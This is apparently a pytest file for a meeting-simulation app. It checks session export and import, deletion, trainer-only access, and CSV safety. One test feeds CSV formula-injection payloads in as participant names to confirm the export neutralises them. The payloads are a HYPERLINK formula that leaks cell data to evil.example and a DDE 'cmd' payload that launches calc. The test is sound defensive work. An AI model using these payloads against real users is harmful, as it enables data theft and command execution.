"""Exporting a session (JSON and CSV), importing it back to the same state, and deleting it."""

import csv
import io
import zipfile

from app.exports import cell
from tests.api.test_join import new_session
from tests.api.test_meeting_api import browser_for, held, meeting  # noqa: F401  (the fixture)
from tests.support import join, send, timeless


def play_a_little(meeting, trainer):  # noqa: F811
    code, view, _ = meeting
    first, second = held(view)
    proposer, other = browser_for(meeting, first), browser_for(meeting, second)
    send(
        proposer,
        code,
        {
            "type": "propose",
            "kind": "transfer",
            "text": "Fund damp repairs",
            "transfer": {"source": first, "target": second, "amount": 15000, "reason": "damp"},
        },
    )
    send(other, code, {"type": "second", "motion_id": "m1"})
    send(proposer, code, {"type": "vote", "motion_id": "m1", "choice": "for"})
    send(other, code, {"type": "vote", "motion_id": "m1", "choice": "against"})
    send(trainer, code, {"type": "close-vote", "motion_id": "m1", "casting": "for"})
    send(trainer, code, {"type": "advance-time", "period": "year"})
    return code


def test_an_exported_session_imports_back_to_the_same_state(meeting, trainer):  # noqa: F811
    code = play_a_little(meeting, trainer)
    exported = trainer.get(f"/api/sessions/{code}/export.json?full=1")
    assert exported.headers["content-disposition"] == f'attachment; filename="session-{code}-full.json"'
    answer = trainer.post(
        "/api/sessions/import", content=exported.content, headers={"content-type": "application/json"}
    )
    assert answer.status_code == 201, answer.text
    copy = answer.json()["code"]
    assert copy != code
    original = trainer.get(f"/api/sessions/{code}/view").json()
    imported = trainer.get(f"/api/sessions/{copy}/view").json()
    for part in ("seats", "pairs", "directorates", "motions", "agenda", "strategy", "consequences", "floor"):
        assert timeless(imported[part]) == timeless(original[part])
    assert imported["session"]["seq"] == original["session"]["seq"]


def test_a_broken_import_is_refused_clearly(trainer):
    bad = trainer.post("/api/sessions/import", content=b"{not json", headers={"content-type": "application/json"})
    assert bad.status_code == 422 and bad.json()["detail"].startswith("This is not a Neighbourhood plc session export.")
    cut = trainer.post(
        "/api/sessions/import",
        json={"format": "neighbourhood-plc-session", "format_version": 1, "pack": "{}", "events": [{"seq": 2}]},
    )
    assert cut.status_code == 422 and "could not be read" in cut.json()["detail"]


def test_csv_files_hold_the_record(meeting, trainer):  # noqa: F811
    code = play_a_little(meeting, trainer)
    response = trainer.get(f"/api/sessions/{code}/export.zip?full=1")
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    names = {n.split("/", 1)[1] for n in archive.namelist()}
    assert names == {
        "seats.csv",
        "motions.csv",
        "votes.csv",
        "transfers.csv",
        "indicators.csv",
        "speaking.csv",
        "minutes.html",
    }
    rows = lambda name: list(csv.DictReader(io.StringIO(archive.read(f"{code}/{name}").decode())))
    assert [r["name"] for r in rows("seats.csv")] == ["Asha", "Ben", "Cai", "Dee"]
    assert rows("motions.csv")[0]["result"] == "carried"
    assert sorted(r["choice"] for r in rows("votes.csv")) == ["against", "for"]
    assert rows("transfers.csv")[0]["amount"] == "15000"
    assert {r["round"] for r in rows("indicators.csv")} == {"After 1 year"}


def test_deleting_a_session_removes_it_and_its_people(meeting, trainer):  # noqa: F811
    code, _, browsers = meeting
    assert trainer.delete(f"/api/sessions/{code}").status_code == 204
    assert trainer.get(f"/api/sessions/{code}/view").status_code == 404
    assert code not in {s["code"] for s in trainer.get("/api/sessions").json()}
    browser = next(iter(browsers.values()))
    assert browser.get(f"/api/sessions/{code}/view").status_code in (401, 404)
    assert trainer.delete(f"/api/sessions/{code}").status_code == 404


def test_only_the_trainer_exports_or_deletes(meeting, participant):  # noqa: F811
    code, _, _ = meeting
    stranger = participant()
    assert stranger.get(f"/api/sessions/{code}/export.json").status_code == 401
    assert stranger.delete(f"/api/sessions/{code}").status_code == 401


def test_the_minutes_carry_the_outcomes_once_time_has_moved_on(meeting, trainer):  # noqa: F811
    code = play_a_little(meeting, trainer)
    record = trainer.get(f"/api/sessions/{code}/minutes").json()
    assert [o["label"] for o in record["outcomes"]] == ["After 1 year"]
    page = trainer.get(f"/trainer/{code}/minutes").text
    assert "Outcomes after 1 year" in page and "dividend stood at" in page


def test_no_csv_cell_can_start_a_formula(trainer, participant):
    code = new_session(trainer)
    crafty = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
    for name in crafty:
        join(participant(), code, name, "council-housing")
    archive = zipfile.ZipFile(io.BytesIO(trainer.get(f"/api/sessions/{code}/export.zip?full=1").content))
    names = [row["name"] for row in csv.DictReader(io.StringIO(archive.read(f"{code}/seats.csv").decode()))]
    assert names == ["'" + name for name in crafty]
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(archive.read(name).decode())):
                assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row), row


def test_tabs_and_carriage_returns_cannot_start_a_cell_either():
    assert cell("\t=1+1") == "'\t=1+1" and cell("\r=1") == "'\r=1"
    assert cell("Fund damp repairs") == "Fund damp repairs" and cell(-15000) == -15000
